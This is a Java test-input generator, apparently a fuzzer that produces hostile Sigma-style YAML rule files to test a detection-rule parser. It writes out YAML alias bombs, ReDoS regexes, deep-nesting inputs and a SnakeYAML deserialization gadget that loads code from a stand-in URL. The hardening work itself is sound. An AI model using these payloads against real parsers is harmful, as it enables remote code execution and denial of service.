package io.streamwarden.app.proof;

import java.util.List;
import java.util.Random;

/** Rule files that no one should push. */
final class HostileRules {
    enum Kind {
        CHANGED,
        NOISE,
        TEXT,
        ALIASES,
        ALIASES_OF_ALIASES,
        MERGES,
        DEEP_FLOW,
        DEEP_BLOCK,
        LONG_VALUE,
        LONG_KEY,
        LONG_NUMBER,
        MANY_DOCUMENTS,
        MANY_SELECTIONS,
        MANY_VALUES,
        EXPRESSION,
        MANY_EXPRESSIONS,
        CONDITION,
        MODIFIERS,
        EXPANSION,
        CORRELATION,
        TAGS,
        EDGE
    }

    private static final String SAMPLE =
            """
            title: Sample
            id: sample
            level: high
            x-custom: &anchor {a: 1}
            logsource: {category: webserver, product: linux}
            detection:
              one:
                f|contains|all: ['a*b', "c\\u0041", 'x\\*']
                g|re|i: '^(a|b){1,3}[^c]+$'
                h|cidr: [10.0.0.0/8, 'fc00::/7']
                i|windash|base64offset|contains: ' -enc'
                j|gte: 5
              two: [word, 'an?other']
              three: *anchor
              condition: (1 of t* or one) and not all of them
            ---
            title: Many users
            correlation: {type: value_count, rules: [sample], group-by: [source.ip], timespan: 10m, condition: {gte: 5, field: user}}
            """;

    private static final List<String> EXPRESSIONS = List.of(
            "(a+)+$",
            "(a|a)*b",
            "((a*)*)*$",
            "(.*a){20}",
            "((a{9}){9}){9}",
            "(((((a{1000}){1000}){1000}){1000}){1000})",
            "(a{0,1000}){1,9}",
            "(?i)(ſ|k|\\x{212a})+z",
            "(\\p{L}+\\p{N}*)+!",
            "(.|[^a]|\\D)*x",
            "\\Q(((((\\E",
            "(?=a)",
            "(a)\\1",
            "[[:alpha:]-\\x{10FFFF}]+",
            "a{99999999999}",
            "(?P<n>a)(?P<n>b)",
            "[z-a]",
            "\\",
            "(?i:");

    private static final List<String> PIECES = List.of(
            "|re",
            "|all",
            "|cidr",
            "|gt",
            "|lte",
            "|contains",
            "|startswith",
            "|endswith",
            "|windash",
            "|base64",
            "|base64offset",
            "|utf16",
            "|wide",
            "|expand",
            "|fieldref",
            "|exists",
            "|cased",
            "|neq",
            "|minute",
            "|");

    private HostileRules() {}

    static HostileInput next(Random random) {
        Kind kind = Kind.values()[random.nextInt(Kind.values().length)];
        if (kind == Kind.NOISE) {
            byte[] noise = new byte[HostileTexts.length(random)];
            random.nextBytes(noise);
            return new HostileInput(kind.name(), noise);
        }
        return HostileInput.of(kind, text(kind, random, HostileTexts.length(random)));
    }

    private static String text(Kind kind, Random random, int size) {
        return switch (kind) {
            case CHANGED, NOISE -> changed(random);
            case TEXT -> HostileTexts.text(random, size);
            case ALIASES -> rule("f: [&a '" + "x".repeat(1 + size / 8) + "'" + ", *a".repeat(size / 8) + "]");
            case ALIASES_OF_ALIASES -> bomb(random, 2 + random.nextInt(12));
            case MERGES -> "a: &a {x: 1}\nb: {<<: [" + "*a, ".repeat(size / 4) + "*a]}\n";
            case DEEP_FLOW -> nested(random.nextBoolean() ? "[" : "{a: ", random.nextBoolean() ? "]" : "}", size);
            case DEEP_BLOCK -> blocks(Math.min(size, 1_200));
            case LONG_VALUE -> rule("f" + modifier(random) + ": " + quoted(HostileTexts.text(random, size)));
            case LONG_KEY -> rule(quoted("f|" + HostileTexts.text(random, size)) + ": 1");
            case LONG_NUMBER ->
                rule("f|gt: " + random.nextInt(10) + "9".repeat(size) + (random.nextBoolean() ? "" : ".5"));
            case MANY_DOCUMENTS -> (random.nextBoolean() ? "---\n" : "---\n" + rule("f: a")).repeat(1 + size / 80);
            case MANY_SELECTIONS -> selections(random, size / 12);
            case MANY_VALUES -> rule("f" + modifier(random) + ": [" + "'*a?b*', ".repeat(size / 9) + "c]");
            case EXPRESSION -> rule("f|re: " + quoted(expression(random, size)));
            case MANY_EXPRESSIONS ->
                rule("f|re: [" + (quoted(expression(random, 9)) + ", ").repeat(1 + size / 20) + "b]");
            case CONDITION -> condition(random, size);
            case MODIFIERS ->
                rule("f" + modifier(random) + modifier(random) + ": " + quoted(HostileTexts.text(random, 40)));
            case EXPANSION -> rule("f|windash|base64offset: '" + " -a".repeat(size / 3) + "'");
            case CORRELATION -> correlation(random, size);
            case TAGS -> "!!javax.script.ScriptEngineManager [!!java.net.URL ['http://x/']]\n".repeat(1 + size / 60);
            case EDGE -> HostileTexts.atEdge(random, "title: ") + "\nlogsource: {category: x}\n";
        };
    }

    private static String rule(String items) {
        return "title: x\nlogsource: {category: x}\ndetection:\n  s:\n    " + items + "\n  condition: s\n";
    }

    private static String changed(Random random) {
        StringBuilder text = new StringBuilder(SAMPLE);
        for (int changes = random.nextInt(6); changes >= 0; changes--) {
            int at = random.nextInt(text.length());
            switch (random.nextInt(4)) {
                case 0 -> text.setCharAt(at, (char) random.nextInt(256));
                case 1 -> text.insert(at, HostileTexts.bait(random));
                case 2 -> text.delete(at, Math.min(text.length(), at + random.nextInt(30)));
                default -> text.insert(at, text.substring(at, Math.min(text.length(), at + random.nextInt(200))));
            }
        }
        return text.toString();
    }

    private static String bomb(Random random, int levels) {
        StringBuilder text = new StringBuilder("a0: &a0 [x, x, x]\n");
        for (int i = 1; i < levels; i++) {
            text.append("a%d: &a%d [%s]\n".formatted(i, i, ("*a" + (i - 1) + ", ").repeat(1 + random.nextInt(20))));
        }
        return text.append(rule("f: *a" + (levels - 1))).toString();
    }

    private static String nested(String open, String close, int depth) {
        return "detection: " + open.repeat(depth) + "1" + close.repeat(depth);
    }

    private static String blocks(int depth) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            text.append(" ".repeat(i)).append("a:\n");
        }
        return text.toString();
    }

    private static String selections(Random random, int count) {
        StringBuilder text = new StringBuilder("title: x\nlogsource: {category: x}\ndetection:\n");
        for (int i = 0; i < count; i++) {
            text.append("  s").append(i).append(": {f: ").append(i).append("}\n");
        }
        return text + "  condition: 1 of s*" + " or 1 of *s*".repeat(random.nextInt(400)) + "\n";
    }

    private static String expression(Random random, int size) {
        String one = EXPRESSIONS.get(random.nextInt(EXPRESSIONS.size()));
        return switch (random.nextInt(4)) {
            case 0 -> one.repeat(1 + size / 20);
            case 1 -> "(".repeat(size) + one + ")*".repeat(size);
            case 2 -> one + "|" + HostileTexts.text(random, size);
            default -> one;
        };
    }

    private static String condition(Random random, int size) {
        String condition =
                switch (random.nextInt(4)) {
                    case 0 -> "(".repeat(size) + "s" + ")".repeat(size);
                    case 1 -> "not ".repeat(size / 4) + "s";
                    case 2 -> "s and (s or ".repeat(size / 12) + "s";
                    default -> HostileTexts.text(random, size);
                };
        return "title: x\nlogsource: {category: x}\ndetection:\n  s: {f: a}\n  condition: " + quoted(condition) + "\n";
    }

    private static String correlation(Random random, int size) {
        return "title: x\ncorrelation:\n  type: "
                + List.of("value_count", "temporal_ordered", "value_percentile", "x")
                        .get(random.nextInt(4)) + "\n  rules: [" + "a, ".repeat(size / 3) + "a]\n  group-by: ["
                + "source.ip, ".repeat(1 + size / 200) + "b]\n  timespan: " + random.nextInt() + "9".repeat(size / 100)
                + "d\n  condition: {gte: 1e999, field: " + quoted(HostileTexts.text(random, 30)) + "}\n";
    }

    private static String modifier(Random random) {
        return random.nextInt(3) == 0 ? "" : PIECES.get(random.nextInt(PIECES.size()));
    }

    /** Single quotes of YAML, in which nothing but they themselves means anything. */
    private static String quoted(String text) {
        return "'" + text.replace("'", "''") + "'";
    }
}
